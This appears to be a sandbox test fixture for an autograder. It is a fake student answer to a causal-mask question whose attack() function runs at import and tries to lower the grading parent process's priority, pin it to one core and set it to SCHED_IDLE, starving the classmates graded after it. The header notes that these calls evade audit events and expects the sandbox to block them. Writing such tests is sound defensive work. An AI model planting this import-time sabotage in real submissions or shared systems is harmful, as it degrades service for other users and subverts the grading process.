# attack: lowers the zygote's priority to nice 19, pins it to one core and makes it SCHED_IDLE (os.setpriority, os.sched_setaffinity, os.sched_setscheduler on another process: none raises an audit event), so that every classmate after it runs starved; imports and answers right
# expect: module=q01_causal_mask status=error match=Operation not permitted
# path: sandbox grade-dir user
"""Question 1, written to starve the classmates graded after it."""
import os

import torch
from torch import Tensor


def attack() -> None:
    """The zygote (this process's parent) at the lowest priority, on one core; forked children inherit all three."""
    zygote = os.getppid()
    os.setpriority(os.PRIO_PROCESS, zygote, 19)
    os.sched_setaffinity(zygote, {min(os.sched_getaffinity(0))})
    os.sched_setscheduler(zygote, os.SCHED_IDLE, os.sched_param(0))


def prefix_average(x: Tensor) -> Tensor:
    """Row i of the result is the mean of rows 0..i of x: (..., T, d) -> (..., T, d)."""
    T = x.shape[-2]
    weights = torch.ones(T, T, dtype=x.dtype).tril()  # (T, T)
    return (weights / weights.sum(dim=-1, keepdim=True)) @ x  # (T, T) @ (..., T, d) -> (..., T, d)


def causal_mask(T: int) -> Tensor:
    """Boolean (T, T) table, True where key j may be seen by query i (j <= i)."""
    return torch.ones(T, T, dtype=torch.bool).tril()


def mask_scores(scores: Tensor, mask: Tensor) -> Tensor:
    """New tensor: scores where mask is True, -inf where it is False; (..., Tq, Tk), mask broadcasts."""
    return scores.masked_fill(~mask, float("-inf"))


attack()  # at import: every check of the question meets it
